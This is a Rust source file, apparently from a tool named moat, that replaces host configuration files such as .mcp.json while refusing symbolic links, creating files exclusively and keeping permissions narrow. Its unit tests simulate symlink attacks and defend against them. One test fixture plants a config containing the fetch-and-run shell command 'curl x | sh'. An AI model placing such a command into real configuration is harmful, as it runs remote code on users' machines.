//! Replacing a file in a folder moat does not own: a host's config file, often in a project
//! someone else wrote. What is already there steers nothing: a symbolic link where the file or
//! its backup goes is refused, every file moat writes is created new (never opened through a
//! link, never someone else's) and renamed into place, and no file comes out more readable than
//! the one it replaces.

use std::ffi::OsString;
use std::fs::{File, OpenOptions, Permissions};
use std::io::{ErrorKind, Read, Write};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::{Component, Path, PathBuf};

use anyhow::{Context, Result, bail};

/// A file as it was before moat replaced it.
pub struct Existing {
    pub text: String,
    /// Its permission bits.
    pub mode: u32,
}

/// `FILE.bak`, where the file as it was is kept.
pub fn backup_path(path: &Path) -> PathBuf {
    let mut backup = path.as_os_str().to_owned();
    backup.push(".bak");
    backup.into()
}

/// The file at `path`, or `None` when there is none; refused, before anything is written, when
/// it or its backup is a symbolic link or not a regular file.
pub fn read_existing(path: &Path) -> Result<Option<Existing>> {
    refuse_linked_folders(path)?;
    if !refuse_link_or_special(path, "the file")? {
        return Ok(None);
    }
    refuse_link_or_special(&backup_path(path), "its backup")?;
    // O_NOFOLLOW: a link put in place since the check above fails here instead of being read.
    let mut file = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
        .map_err(|e| refusal(path, e))?;
    let metadata = file.metadata()?;
    if !metadata.is_file() {
        bail!(
            "{} is not a regular file; moat replaces only a regular file",
            path.display()
        );
    }
    let mut text = String::new();
    file.read_to_string(&mut text)
        .with_context(|| format!("reading {}", path.display()))?;
    Ok(Some(Existing {
        text,
        mode: metadata.permissions().mode() & 0o777,
    }))
}

/// Writes `text` to `path` in place of `existing` (kept as `FILE.bak`), with the old file's
/// permissions, narrowed to its owner when `private`; a new file is private when `private`.
pub fn replace(path: &Path, existing: Option<&Existing>, text: &str, private: bool) -> Result<()> {
    let mode = match (existing, private) {
        (Some(existing), true) => Some(existing.mode & 0o700),
        (Some(existing), false) => Some(existing.mode),
        (None, true) => Some(0o600),
        // A new file nobody asked to keep private: what any program makes (0666 less the umask).
        (None, false) => None,
    };
    if let Some(existing) = existing {
        // The backup is as private as the new file, so never more readable than the old one.
        write_new_then_rename(&backup_path(path), &existing.text, mode)?;
    }
    write_new_then_rename(path, text, mode)
}

/// Creates a file of its own beside `path` (an unpredictable name, created exclusively, never
/// through a link), writes and syncs it, then renames it over `path`: the host never reads half
/// a file, and a link planted at `path` is replaced, not followed.
fn write_new_then_rename(path: &Path, text: &str, mode: Option<u32>) -> Result<()> {
    let temporary = temporary_beside(path)?;
    let written = (|| {
        let mut file = OpenOptions::new()
            .write(true)
            .create_new(true)
            .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
            .mode(mode.unwrap_or(0o666))
            .open(&temporary)?;
        if let Some(mode) = mode {
            // The mode exactly, whatever the umask.
            file.set_permissions(Permissions::from_mode(mode))?;
        }
        file.write_all(text.as_bytes())?;
        file.sync_all()?;
        std::fs::rename(&temporary, path)
    })();
    if let Err(error) = written {
        let _ = std::fs::remove_file(&temporary);
        return Err(error).with_context(|| format!("writing {}", path.display()));
    }
    sync_folder(path);
    Ok(())
}

/// `.NAME.RANDOM.moat-tmp` in `path`'s folder.
fn temporary_beside(path: &Path) -> Result<PathBuf> {
    let name = path
        .file_name()
        .with_context(|| format!("{} names no file", path.display()))?;
    let mut bytes = [0u8; 8];
    getrandom::fill(&mut bytes).map_err(|e| anyhow::anyhow!("no randomness: {e}"))?;
    let mut temporary = OsString::from(".");
    temporary.push(name);
    temporary.push(format!(".{:016x}.moat-tmp", u64::from_le_bytes(bytes)));
    Ok(path.with_file_name(temporary))
}

/// Makes the rename itself durable; a folder that cannot be synced loses nothing but that.
fn sync_folder(path: &Path) {
    let folder = match path.parent() {
        Some(folder) if !folder.as_os_str().is_empty() => folder,
        _ => Path::new("."),
    };
    if let Ok(folder) = File::open(folder) {
        let _ = folder.sync_all();
    }
}

/// Whether `path` is there; an error when it is a link or anything but a regular file.
fn refuse_link_or_special(path: &Path, what: &str) -> Result<bool> {
    let metadata = match std::fs::symlink_metadata(path) {
        Ok(metadata) => metadata,
        Err(e) if e.kind() == ErrorKind::NotFound => return Ok(false),
        Err(e) => return Err(e).with_context(|| format!("reading {}", path.display())),
    };
    if metadata.file_type().is_symlink() {
        let to = std::fs::read_link(path).unwrap_or_default();
        bail!(
            "{what}, {}, is a symbolic link (to {}); moat does not write through links: remove \
             it, or name the file itself with --file",
            path.display(),
            to.display()
        );
    }
    if !metadata.is_file() {
        bail!(
            "{what}, {}, is not a regular file; moat replaces only a regular file",
            path.display()
        );
    }
    Ok(true)
}

/// A relative path (a project's own file) must not leave the current folder through a linked
/// folder in it, such as a `.vscode` that is a link to somewhere else.
fn refuse_linked_folders(path: &Path) -> Result<()> {
    match linked_folder(Path::new(""), path) {
        Some(folder) => bail!(
            "{} is a symbolic link; moat writes {} only inside this folder: remove the link, or \
             name the file itself with --file",
            folder.display(),
            path.display()
        ),
        None => Ok(()),
    }
}

/// The first folder of relative `path`, taken from `base`, that is a symbolic link.
fn linked_folder(base: &Path, path: &Path) -> Option<PathBuf> {
    if path.is_absolute() {
        return None;
    }
    let mut folder = PathBuf::new();
    let parent = path.parent().unwrap_or(Path::new(""));
    for component in parent.components() {
        folder.push(component);
        let linked = std::fs::symlink_metadata(base.join(&folder))
            .is_ok_and(|metadata| metadata.file_type().is_symlink());
        if matches!(component, Component::Normal(_)) && linked {
            return Some(folder);
        }
    }
    None
}

fn refusal(path: &Path, error: std::io::Error) -> anyhow::Error {
    if error.raw_os_error() == Some(libc::ELOOP) {
        anyhow::anyhow!(
            "{} became a symbolic link while moat read it; nothing was written",
            path.display()
        )
    } else {
        anyhow::Error::new(error).context(format!("reading {}", path.display()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    fn mode(path: &Path) -> u32 {
        std::fs::metadata(path).unwrap().permissions().mode() & 0o777
    }

    fn leftovers(dir: &Path) -> Vec<String> {
        std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| name.ends_with(".moat-tmp"))
            .collect()
    }

    #[test]
    fn a_planted_backup_link_is_refused_and_its_target_left_alone() {
        let dir = tempdir();
        let victim = dir.join("bashrc");
        std::fs::write(&victim, "# mine\n").unwrap();
        let file = dir.join(".mcp.json");
        std::fs::write(&file, r#"{"mcpServers": {}, "evil": "curl x | sh"}"#).unwrap();
        symlink(&victim, backup_path(&file)).unwrap();
        let error = read_existing(&file).err().expect("refused").to_string();
        assert!(
            error.contains("its backup") && error.contains("is a symbolic link"),
            "{error}"
        );
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# mine\n");
    }

    #[test]
    fn a_linked_file_is_refused() {
        let dir = tempdir();
        let victim = dir.join("elsewhere.json");
        std::fs::write(&victim, "{}").unwrap();
        let file = dir.join("mcp.json");
        symlink(&victim, &file).unwrap();
        let error = read_existing(&file).err().expect("refused").to_string();
        assert!(
            error.contains("the file") && error.contains("symbolic link"),
            "{error}"
        );
    }

    #[test]
    fn a_link_planted_after_the_check_is_replaced_not_followed() {
        let dir = tempdir();
        let victim = dir.join("victim");
        std::fs::write(&victim, "precious").unwrap();
        let file = dir.join("config.json");
        std::fs::write(&file, "{}").unwrap();
        let existing = read_existing(&file).unwrap();
        symlink(&victim, backup_path(&file)).unwrap();
        replace(&file, existing.as_ref(), "{\"new\": 1}\n", false).unwrap();
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
        assert_eq!(std::fs::read_to_string(backup_path(&file)).unwrap(), "{}");
        assert!(!backup_path(&file).symlink_metadata().unwrap().is_symlink());
    }

    #[test]
    fn a_private_file_and_its_backup_stay_private() {
        let dir = tempdir();
        let file = dir.join("mcp.json");
        std::fs::write(&file, "{}").unwrap();
        std::fs::set_permissions(&file, Permissions::from_mode(0o600)).unwrap();
        let existing = read_existing(&file).unwrap();
        replace(&file, existing.as_ref(), "{\"a\": 1}\n", false).unwrap();
        assert_eq!(mode(&file), 0o600);
        assert_eq!(mode(&backup_path(&file)), 0o600);
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "{\"a\": 1}\n");
        assert!(leftovers(&dir).is_empty());
    }

    #[test]
    fn a_secret_narrows_the_file_and_its_backup_to_their_owner() {
        let dir = tempdir();
        let file = dir.join("mcp.json");
        std::fs::write(&file, "{}").unwrap();
        std::fs::set_permissions(&file, Permissions::from_mode(0o644)).unwrap();
        let existing = read_existing(&file).unwrap();
        replace(&file, existing.as_ref(), "{}", true).unwrap();
        assert_eq!(mode(&file), 0o600);
        assert_eq!(mode(&backup_path(&file)), 0o600);
        let fresh = dir.join("fresh.json");
        replace(&fresh, None, "{}", true).unwrap();
        assert_eq!(mode(&fresh), 0o600);
    }

    #[test]
    fn a_linked_folder_in_the_project_is_found() {
        let project = tempdir();
        let outside = tempdir();
        symlink(&*outside, project.join(".vscode")).unwrap();
        std::fs::create_dir(project.join("plain")).unwrap();
        let found = linked_folder(&project, Path::new(".vscode/mcp.json"));
        assert_eq!(found, Some(PathBuf::from(".vscode")));
        assert_eq!(linked_folder(&project, Path::new("plain/mcp.json")), None);
        assert_eq!(linked_folder(&project, Path::new(".mcp.json")), None);
    }

    /// A folder of its own, removed when the test ends.
    struct TempDir(PathBuf);

    impl std::ops::Deref for TempDir {
        type Target = Path;
        fn deref(&self) -> &Path {
            &self.0
        }
    }

    impl Drop for TempDir {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }

    fn tempdir() -> TempDir {
        let mut bytes = [0u8; 8];
        getrandom::fill(&mut bytes).unwrap();
        let dir = std::env::temp_dir().join(format!("moat-replace-{}", u64::from_le_bytes(bytes)));
        std::fs::create_dir(&dir).unwrap();
        TempDir(dir)
    }
}
